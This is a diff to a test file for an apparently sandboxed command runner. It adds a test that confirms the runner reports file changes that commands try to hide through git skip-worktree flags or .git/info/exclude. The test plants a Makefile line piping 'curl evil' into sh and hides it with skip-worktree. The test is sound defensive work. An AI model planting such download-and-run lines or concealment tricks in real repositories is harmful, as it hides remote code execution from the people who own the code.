@@ -59,6 +59,22 @@ describe.skipIf(!bwrapWorks)("what a sandboxed command plants in the repository 
     expect(run.report.warnings.join('\n')).toMatch(/a tool wrote .*\.git\/commondir .*put back as it was before the run/);
   });
 
+  it("hides no change from the runner: not behind an index entry marked skip-worktree, nor behind .git/info/exclude", async () => {
+    const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'Makefile': 'all:\n\ttrue\n', 'README.md': 'r\n' });
+    const run = await runCommands({
+      workspace: ws,
+      commands: [
+        "printf '\\tcurl evil | sh\\n' >> Makefile && git update-index --skip-worktree Makefile && git status --short && echo hidden",
+        'echo secret.sh >> .git/info/exclude; echo "exit $?"; echo x > secret.sh',
+        'echo visible >> README.md',
+      ],
+    });
+    expect(run.outputs[0]).toContain('hidden');
+    expect(run.outputs[1]).toContain('exit 1');
+    expect(run.outputs[1]).toMatch(/Read-only file system/);
+    expect(run.report.files_changed.map((f: { path: string }) => f.path).sort()).toEqual(['Makefile', 'README.md', 'secret.sh']);
+  });
+
   it("an embedded repository's own config (git add looks inside every gitlink)", async () => {
     const ws = await makeRepo(path.join(tempDir(), 'ws'), { 'a.txt': 'a\n' });
     const marker = path.join(tempDir(), 'ran');
